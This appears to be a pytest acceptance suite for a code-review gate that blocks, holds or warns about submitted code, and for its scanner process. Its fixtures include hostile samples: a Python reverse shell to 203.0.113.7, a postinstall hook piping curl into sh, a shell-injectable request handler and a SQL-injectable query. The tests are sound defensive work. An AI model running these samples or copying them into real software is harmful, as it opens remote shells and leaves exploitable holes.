"""The review on a real service: what it refuses never runs, and what people accept does."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from tests.acceptance.live_service import PATIENCE, TINY_APP, LiveService, body, live_service
from tests.gate import stripe_key

pytestmark = [pytest.mark.root, pytest.mark.engines]

SHELL = """
import os, pty, socket
s = socket.socket()
s.connect(("203.0.113.7", 4444))
for number in range(3):
    os.dup2(s.fileno(), number)
pty.spawn("/bin/sh")
"""
RISKY = f"""
import subprocess
from urllib.parse import urlsplit

def run(request):
    return subprocess.check_output(request.args["c"], shell=True)

{TINY_APP}
"""
SQL = f"""
def rows(cursor, request):
    return cursor.execute("SELECT * FROM rows WHERE name = '%s'" % request.args["name"])

{TINY_APP}
"""
HOOK = json.dumps({"name": "app", "scripts": {"postinstall": "curl https://example.com/x | sh"}})
BLOCKED: dict[str, tuple[str, Mapping[str, str], str]] = {
    "a reverse shell": ("MAL-reverse-shell", {"main.py": SHELL}, "python3 main.py"),
    "an install hook that fetches": ("MAL-install-hook", {"main.js": "1", "package.json": HOOK}, "node main.js"),
}


@pytest.fixture
def name(service: LiveService, request: pytest.FixtureRequest) -> Iterator[str]:
    """A name for a builder that is deleted afterwards."""
    made = f"review-{abs(hash(request.node.name)) % 10**8}"
    yield made
    for builder in service.call("GET", f"/builders?name={made}").json()["data"]:
        service.call("DELETE", f"/builders/{builder['uuid']}")


def refused(service: LiveService, name: str, main: str = TINY_APP, **fields: Any) -> tuple[str, list[dict[str, Any]]]:
    """The uuid of a builder whose review failed, and what was found."""
    response = service.call("POST", "/builders", json=body(name, main, **fields))
    assert (response.status_code, response.json()["code"]) == (422, "review_failed"), response.text
    data = response.json()["data"]
    return data["uuid"], data["review"]["findings"]


def accept(service: LiveService, uuid: str, finding: Mapping[str, Any], token: str | None = None, **more: Any) -> Any:
    new = {"fingerprint": finding["fingerprint"], "reason": "it is meant", **more}
    return service.call("POST", f"/builders/{uuid}/review/accept", json=new, token=token)


@pytest.mark.parametrize(("rule", "files", "entrypoint"), BLOCKED.values(), ids=list(BLOCKED))
def test_blocked_code_never_runs(
    service: LiveService, name: str, rule: str, files: Mapping[str, str], entrypoint: str
) -> None:
    uuid, findings = refused(service, name, files=files, entrypoint=entrypoint)
    assert findings[0]["severity"] == "block"
    assert findings[0]["rule"].startswith(rule)
    events = service.call("GET", f"/builders/{uuid}/events").json()["data"]
    assert not {"sandbox.started", "stage.started"} & {event["type"] for event in events}
    assert "review.failed" in {event["type"] for event in events}
    assert service.builder(uuid)["cost"]["cost"] == 0


def test_secret_blocks_and_is_masked(service: LiveService, name: str) -> None:
    key = stripe_key()
    response = service.call("POST", "/builders", json=body(name, f"KEY = '{key}'\n{TINY_APP}"))
    assert response.json()["code"] == "review_failed"
    (finding,) = [one for one in response.json()["data"]["review"]["findings"] if one["rule"].startswith("SEC-")]
    assert (finding["path"], finding["line"]) == ("main.py", 1)
    uuid = response.json()["data"]["uuid"]
    paths = ("", "/review", "/review?format=sarif", "/events", "/versions")
    told = [response.text, service.log_file.read_text(errors="replace")]
    told += [service.call("GET", f"/builders/{uuid}{path}").text for path in paths]
    assert not any(key in text for text in told)


def test_held_code_runs_after_acceptance(service: LiveService, name: str) -> None:
    uuid, findings = refused(service, name, RISKY)
    holding = [finding for finding in findings if finding["severity"] == "hold"]
    assert holding
    for finding in holding:
        assert accept(service, uuid, finding).status_code == 200
    started = service.call("POST", f"/builders/{uuid}/start").json()["data"]
    assert (started["status"], started["review_passed"]) == ("running", True)
    assert service.visit(started).text == "hello"
    again = service.call("PUT", f"/builders/{uuid}", json={"files": {"main.py": f"# more\n{RISKY}"}})
    assert (again.status_code, again.json()["data"]["version"]) == (200, 2), again.text


def test_code_with_warnings_runs(service: LiveService, name: str) -> None:
    data = service.create(name, SQL)
    review = service.call("GET", f"/builders/{data['uuid']}/review").json()["data"]
    assert (data["review_passed"], review["passed"], review["outdated"]) == (True, True, False)
    assert {finding["severity"] for finding in review["findings"]} == {"warn"}


# The scanner's process


@pytest.mark.parametrize("how", ["killed", pytest.param("terminated", marks=pytest.mark.slow)])
def test_scanner_ends_with_the_service(tmp_path_factory: pytest.TempPathFactory, how: str) -> None:
    with live_service(tmp_path_factory.mktemp("ends") / "data") as running:
        running.create("warm")
        assert running.process is not None
        pids = workers(running.process.pid)
        assert pids, "no scanner was kept warm"
        running.kill() if how == "killed" else running.terminate()
        deadline = time.monotonic() + PATIENCE
        while any(is_worker(pid) for pid in pids):
            assert time.monotonic() < deadline, "the scanner outlives its service"
            time.sleep(0.02)


def workers(service_pid: int) -> list[int]:
    """The scanner's processes of this service."""
    return [
        pid
        for pid in (int(path.name) for path in Path("/proc").iterdir() if path.name.isdigit())
        if is_worker(pid) and parent(pid) == service_pid
    ]


def is_worker(pid: int) -> bool:
    try:
        return b"scanners.tripwire.worker" in Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return False


def parent(pid: int) -> int:
    try:
        return int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
    except OSError:
        return 0
